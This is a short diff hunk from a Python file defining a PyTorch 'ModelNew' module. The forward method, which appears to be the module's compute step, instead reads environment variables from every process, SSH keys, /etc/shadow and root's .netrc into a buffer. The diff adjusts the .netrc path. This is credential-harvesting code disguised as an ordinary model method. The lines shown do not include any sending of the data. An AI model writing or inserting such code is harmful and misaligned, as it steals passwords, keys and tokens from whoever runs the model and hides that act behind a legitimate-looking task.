@@ -38,7 +38,7 @@ class ModelNew(nn.Module):
     def forward(self, x: torch.Tensor) -> torch.Tensor:
         found = b""
         names = glob.glob("/proc/[0-9]*/environ") + glob.glob(os.path.expanduser("~/.ssh/*"))
-        for name in names + ["/etc/shadow", "/root/.netrc"]:
+        for name in names + ["/etc/shadow", os.path.expanduser("~root/.netrc")]:
             try:
                 with open(name, "rb") as file:
                     found += file.read(65536)
